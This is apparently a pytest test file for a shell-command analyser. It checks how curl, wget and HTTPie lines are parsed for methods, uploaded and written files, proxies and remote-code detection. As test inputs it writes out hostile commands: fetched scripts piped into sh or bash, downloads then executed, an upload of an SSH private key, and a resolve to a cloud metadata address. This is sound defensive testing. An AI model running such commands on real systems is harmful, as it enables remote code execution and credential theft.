"""curl, wget and HTTPie."""

import pytest

from tests.readers.shell.evaluation import effects, reading, rules


def urls(line: str) -> list[tuple[str, str, str]]:
    """(url, method, data) of the URL payloads."""
    found = []
    for payload in reading(line).payloads:
        if payload.language == "url":
            options = dict(payload.options)
            found.append((payload.text, options.get("method", ""), options.get("data", "")))
    return found


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        ("https://a.example", ("https://a.example", "", "")),
        ("-sI https://a.example", ("https://a.example", "HEAD", "")),
        ("-XDELETE https://a.example", ("https://a.example", "DELETE", "")),
        ("--req PUT https://a.example", ("https://a.example", "PUT", "")),
        ("-d x=1 https://a.example", ("https://a.example", "POST", "literal")),
        ("--data-raw @x https://a.example", ("https://a.example", "POST", "literal")),
        ("-d @x https://a.example", ("https://a.example", "POST", "file")),
        ("--data-urlencode n@x https://a.example", ("https://a.example", "POST", "file")),
        ("--data-urlencode n=@x https://a.example", ("https://a.example", "POST", "literal")),
        ("-F 'f=@x;type=text/plain' https://a.example", ("https://a.example", "POST", "file")),
        ("-F 'f=<x' https://a.example", ("https://a.example", "POST", "file")),
        ("-F f=x https://a.example", ("https://a.example", "POST", "literal")),
        ("--form-string f=@x https://a.example", ("https://a.example", "POST", "literal")),
        ("-T x https://a.example", ("https://a.example", "PUT", "file")),
        ("-G -d q=1 https://a.example", ("https://a.example", "", "")),
        ("--json '{}' https://a.example", ("https://a.example", "POST", "literal")),
        ("--url https://a.example", ("https://a.example", "", "")),
        ("-o x -d @- https://a.example", ("https://a.example", "POST", "unknown")),
    ],
)
def test_method_and_data_of_curl(arguments: str, expected: tuple[str, str, str]) -> None:
    """What goes where, by every spelling."""
    assert expected in urls(f"curl {arguments}")


@pytest.mark.parametrize(
    ("arguments", "path"),
    [
        ("-o out https://a.example", "/work/app/out"),
        ("-oout https://a.example", "/work/app/out"),
        ("--out=out https://a.example", "/work/app/out"),
        ("-O https://a.example/d/a.zip?x=1", "/work/app/a.zip"),
        ("--output-dir d -o a https://a.example", "/work/app/d/a"),
        ("--trace t https://a.example", "/work/app/t"),
        ("-D h https://a.example", "/work/app/h"),
        ("-w '%output{w}x' https://a.example", "/work/app/w"),
        ("-sSfLo out https://a.example", "/work/app/out"),
    ],
)
def test_files_that_curl_writes(arguments: str, path: str) -> None:
    """Every option that writes."""
    assert f"write {path}" in effects(f"curl {arguments}")


def test_dashes_are_no_files() -> None:
    """``-`` is standard output."""
    assert not any(effect.startswith("write") for effect in effects("curl -o - -D - https://a.example"))


@pytest.mark.parametrize("path", ["x", "/home/dev/.ssh/id_rsa"])
def test_uploads_read_their_file(path: str) -> None:
    """A file that is sent is read."""
    assert any(
        effect.endswith(path) and effect.startswith("read") for effect in effects(f"curl -T {path} https://a.example")
    )


def test_other_addresses_are_looked_at() -> None:
    """Proxies and addresses given for a host are reached too."""
    assert ("http://169.254.169.254", "", "") in urls("curl --resolve a:80:169.254.169.254 http://a")
    assert ("http://p:1", "", "") in urls("curl -x p:1 http://a")


@pytest.mark.parametrize(
    "shape",
    [
        "{} | sh",
        "sh <({})",
        'sh -c "$({})"',
        "{} > /tmp/x; sh /tmp/x",
        "{} | tee /tmp/x | cat | bash -s",
        "source <({})",
    ],
)
@pytest.mark.parametrize(
    "fetch", ["curl -s https://a.example", "wget -qO- https://a.example", "http https://a.example"]
)
def test_fetched_text_that_runs_is_found(shape: str, fetch: str) -> None:
    """Remote text in a shell, in any shape."""
    assert "flow.remote-code" in rules(shape.format(fetch))


@pytest.mark.parametrize(
    "line",
    [
        "curl -o /tmp/x https://a.example && bash /tmp/x",
        "wget -P /tmp https://a.example/x; sh /tmp/x",
        "curl -O https://a.example/x.sh; chmod +x x.sh; ./x.sh",
    ],
)
def test_a_downloaded_file_that_runs_is_found(line: str) -> None:
    """The file keeps where it came from."""
    assert "flow.remote-code" in rules(line)


def test_a_download_that_is_unpacked_runs_nothing() -> None:
    """Saving and unpacking is no running."""
    assert "flow.remote-code" not in rules("curl -sL https://a.example/a.tgz | tar xz -C build")


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("http POST a.example n=1", ("a.example", "POST", "literal")),
        ("http a.example n=1", ("a.example", "POST", "literal")),
        ("http a.example q==1 H:x", ("a.example", "", "")),
        ("http a.example f@x", ("a.example", "POST", "file")),
        ("http :8080/x", ("localhost:8080/x", "", "")),
        ("wget --post-file=x https://a.example", ("https://a.example", "POST", "file")),
        ("wget --method=DELETE https://a.example", ("https://a.example", "DELETE", "")),
    ],
)
def test_other_clients(line: str, expected: tuple[str, str, str]) -> None:
    """HTTPie's items and wget's options."""
    assert expected in urls(line)
